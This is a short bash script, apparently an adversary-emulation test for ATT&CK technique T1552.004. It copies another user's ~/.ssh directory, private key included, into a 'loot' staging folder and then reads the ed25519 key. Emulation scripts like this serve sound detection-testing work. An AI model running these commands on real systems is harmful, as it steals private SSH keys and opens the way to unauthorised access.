#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1552.004
# tactic: credential-access
# what: cp another user's ~/.ssh (private key included) to a staging directory
. "$AT_LIB"
cp -r "$AT_VICTIM_HOME/.ssh" "$AT_TMP/loot"
cat "$AT_TMP/loot/id_ed25519" >/dev/null
